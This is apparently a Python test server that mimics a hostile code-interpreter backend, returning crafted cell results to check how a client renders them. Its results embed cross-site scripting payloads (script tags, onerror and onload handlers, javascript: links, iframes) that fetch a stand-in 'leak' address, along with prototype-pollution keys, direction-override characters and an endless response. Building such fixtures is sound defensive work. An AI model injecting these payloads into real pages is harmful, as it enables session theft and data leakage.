# Stands in for a code interpreter whose guest is hostile: answers each cell by what its code names.
import base64
import http.server
import json
import struct
import sys
import zlib

LEAK = "http://192.0.2.99/leak"
SCRIPT = "document.title='pwned';fetch('%s')" % LEAK


def png():
    def part(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes([60, 120, 220] * 40) for _ in range(20))
    head = struct.pack(">IIBBBBB", 40, 20, 8, 2, 0, 0, 0)
    whole = b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(rows)) + part(b"IEND", b"")
    return base64.b64encode(whole).decode()


def chart(kind, elements, **more):
    return {"type": kind, "title": "Chart <b>%s</b>" % kind, "x_label": "time", "y_label": "ms", "elements": elements, **more}


RESULTS = {
    "html": {"html": "<img src=x onerror=\"%s\"><script>%s</script><iframe src='%s'></iframe><style>body{display:none}</style><table><tr><td>cell</td></tr></table>" % (SCRIPT, SCRIPT, LEAK), "text": "an html result"},
    "svg": {"svg": "<svg xmlns='http://www.w3.org/2000/svg' width='100000' height='90' onload=\"%s\"><script>%s</script><image href='%s'/><a href='javascript:alert(1)'><rect width='90' height='90' fill='teal'/></a><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='%s'/></foreignObject></svg>" % (SCRIPT, SCRIPT, LEAK, LEAK)},
    "javascript": {"javascript": SCRIPT, "text": "a script"},
    "markdown": {"markdown": "[x](javascript:alert(1)) ![y](%s)" % LEAK, "latex": "\\href{javascript:alert(1)}{x}"},
    "png": {"png": png()},
    "nopng": {"png": "\"><img src=x onerror=alert(1)>"},
    "table": {"data": {"name": ["<b>a</b>", "\u202ebc", "d"], "value": [1, 2.5, None], "__proto__": [1, 2, 3]}, "html": "<table></table>"},
    "line": {"chart": chart("line", [{"label": "<script>", "points": [[0, 1], [1, 4], [2, 2]]}, {"label": "b", "points": [[0, 3], [1, 1], [2, 5]]}]), "png": png()},
    "bar": {"chart": chart("bar", [{"label": "a", "group": "g", "value": "3"}, {"label": "b", "group": "g", "value": "5"}])},
    "pie": {"chart": chart("pie", [{"label": "a", "angle": 90, "radius": 1}, {"label": "b", "angle": 270, "radius": 1}])},
    "box": {"chart": chart("box_and_whisker", [{"label": "a", "min": 0, "first_quartile": 2, "median": 3, "third_quartile": 5, "max": 9, "outliers": [12]}])},
    "badchart": {"chart": chart("line", [{"label": {"a": 1}, "points": [["1e999", "x"], [None, 1e308], [1, 2]]}, 7, None]), "text": "a bad chart"},
}


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        code = json.loads(self.rfile.read(int(self.headers["content-length"])))["code"].strip()
        if code == "endless":
            return self.refuse_without_end()
        events = [{"type": "number_of_executions", "execution_count": 1}]
        if code in RESULTS:
            events.append({"type": "result", "is_main_result": True, **RESULTS[code]})
        elif code == "output":
            events.append({"type": "stdout", "text": "\x1b[31mred\x1b[0m <b>bold</b> \u202eevil\n", "timestamp": 0})
            events.append({"type": "stderr", "text": "to stderr\n", "timestamp": 0})
            events.append({"type": "error", "name": "Error", "value": "<i>bad</i>", "traceback": "\x1b[1mTraceback\x1b[0m <img src=x onerror=alert(1)>"})
        else:
            events.append({"type": "stdout", "text": str(eval(code, {})) + "\n", "timestamp": 0})
        events.append({"type": "end_of_execution"})
        body = "".join(json.dumps(event) + "\n" for event in events).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def refuse_without_end(self):
        self.send_response(500)
        self.send_header("content-type", "application/json")
        self.send_header("connection", "close")
        self.end_headers()
        sent = 0
        try:
            self.wfile.write(b'{"message": "')
            while True:
                sent += self.wfile.write(b"x" * 65536)
        except OSError:
            self.close_connection = True
        with open("/tmp/sent", "w") as file:
            file.write(str(sent))

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
